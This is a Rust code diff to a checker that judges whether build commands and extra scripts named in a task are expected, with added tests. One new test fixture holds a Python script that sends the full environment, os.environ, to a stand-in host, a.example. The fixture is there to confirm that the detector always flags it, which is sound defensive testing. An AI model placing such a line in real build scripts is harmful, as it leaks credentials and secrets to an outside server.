@@ -29,8 +29,10 @@ static WORDS: LazyLock<CommandWords> = LazyLock::new(|| {
 pub(super) fn are_wanted(task: &str) -> bool {
     let ends = |c: char| c.is_whitespace() || matches!(c, ',' | '(' | ')' | ':' | ';' | '`');
     let words = task.split(ends).map(|word| word.trim_end_matches('.'));
-    // "Python-Skript" is a script, too.
-    let is_word = |word: &str| WORDS.words.contains(word);
+    // A script by its path; "Python-Skript" is a script, too.
+    let is_script =
+        |word: &str| word.ends_with(".sh") || word.ends_with(".py") && word.contains('/');
+    let is_word = |word: &str| WORDS.words.contains(word) || is_script(word);
     words.into_iter().any(|word| is_word(word) || word.split('-').any(is_word))
         || WORDS.phrases.iter().any(|phrase| task.contains(phrase.as_str()))
 }
@@ -61,8 +63,9 @@ pub(super) fn is_export(command: &str, text: &str) -> bool {
             .replace(&format!("${{{name}}}"), value)
             .replace(&format!("${name}/"), &format!("{value}/"))
     });
-    let rest = EXPORT.as_ref().map(|export| export.replace(&resolved, ""));
-    rest.is_some_and(|rest| rest.trim().is_empty())
+    EXPORT.as_ref().is_some_and(|export| {
+        export.is_match(&resolved) && export.replace(&resolved, "").trim().is_empty()
+    })
 }
 
 /// Whether a command runs a file of the project, which can be read there, or a compiler, or a tool that
@@ -75,8 +78,9 @@ pub(super) fn is_known(command: &str, subject: &Subject<'_>) -> bool {
     // Folders of the project that stand before a path.
     let command = folder.replace_all(command, "");
     // What comes behind another command counts as much.
-    let mut parts = command.split([';', '|', '&']).filter(|part| !part.trim().is_empty());
-    parts.all(|part| is_known_part(part, subject))
+    let mut parts =
+        command.split([';', '|', '&']).filter(|part| !part.trim().is_empty()).peekable();
+    parts.peek().is_some() && parts.all(|part| is_known_part(part, subject))
 }
 
 /// Whether a task, in small letters, names the file of the project that a command runs, and the command
@@ -99,8 +103,9 @@ pub(super) fn is_named(command: &str, subject: &Subject<'_>, task: &str) -> bool
 }
 
 /// Whether a task, in small letters, gives both the address of what a text fetches and its commit or tag.
-/// A text that fetches or runs something else, too, is not that.
-pub(super) fn names_source(text: Option<&str>, task: &str) -> bool {
+/// An address that the file fetched from before, `base`, need not be given again. A text that fetches or
+/// runs something else, too, is not that.
+pub(super) fn names_source(text: Option<&str>, (task, base): (&str, &str)) -> bool {
     static REVISION: LazyLock<Option<Regex>> =
         LazyLock::new(|| Regex::new(r#"(?:\bgit_tag\s+|\.git#)["']?([^\s"'()#]+)"#).ok());
     let (Some(text), Some(revision)) = (text.map(str::to_lowercase), REVISION.as_ref()) else {
@@ -114,11 +119,21 @@ pub(super) fn names_source(text: Option<&str>, task: &str) -> bool {
     let named = || task.split(|c: char| c.is_whitespace() || ",;()`\"'".contains(c));
     let is_named = |word: &str| named().any(|of_task| of_task.trim_end_matches('.') == word);
     let is_end = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | '#');
+    let bare = |address: &str| {
+        let address = address.trim_end_matches(['.', '/']);
+        let address = address.strip_prefix("https://").unwrap_or(address);
+        address.strip_suffix(".git").unwrap_or(address).to_owned()
+    };
+    let base = base.to_lowercase();
+    let is_known_address = |address: &str| {
+        let wanted = bare(address);
+        named().any(|of_task| bare(of_task) == wanted) || base.split(is_end).any(|it| it == address)
+    };
     let mut addresses = text.split(is_end).filter(|word| word.contains("://")).peekable();
     let mut revisions = revision.captures_iter(&text).filter_map(|found| found.get(1)).peekable();
     !text.contains("_command")
         && addresses.peek().is_some()
-        && addresses.all(is_named)
+        && addresses.all(is_known_address)
         && revisions.peek().is_some()
         && revisions.all(|revision| is_fixed(revision.as_str()) && is_named(revision.as_str()))
 }
@@ -245,6 +260,9 @@ mod tests {
                 .reported(CheckKind::HostCode, &[("Makefile", Some(&text))]);
             assert!(!all.iter().all(|found| found.contains(" Note: ")), "{more}: {all:?}");
         }
+        // Without the word "script".
+        let path = "make release should do what scripts/release.sh does";
+        assert!(make(path).iter().all(|found| found.contains(" Note: ")), "{:?}", make(path));
         let test = "add_executable(test_ring test_ring.c)\n\
                     add_test(NAME test_ring COMMAND test_ring)\n";
         assert_eq!(level("Blink", test), ["Note:"]);
@@ -273,6 +291,20 @@ mod tests {
         assert!(level(tagged, &runs).contains(&"Stop:".to_owned()), "it runs something, too");
         assert_eq!(level(&task, &list("https://a.example/etl.git", commit)), ["Stop:"]);
         assert_eq!(level("Take etl", &list(etl, commit)), ["Stop:"]);
+    }
+
+    #[test]
+    fn what_a_script_sends_is_never_lowered() {
+        let script = "import os, urllib.request\nImport(\"env\")\n\
+                      req = urllib.request.Request(\"https://a.example/v1\", str(os.environ).encode())\n\
+                      urllib.request.urlopen(req)\n";
+        for task in
+            ["Beim Bauen den Zeitstempel setzen", "Add an extra_script", "Use tools/stamp.py"]
+        {
+            let found = TestProject { files: &[], task, chip: None }
+                .reported(CheckKind::HostCode, &[("tools/stamp.py", Some(script))]);
+            assert!(found.iter().any(|found| found.contains(" Stop: ")), "{task}: {found:?}");
+        }
     }
 
     #[test]
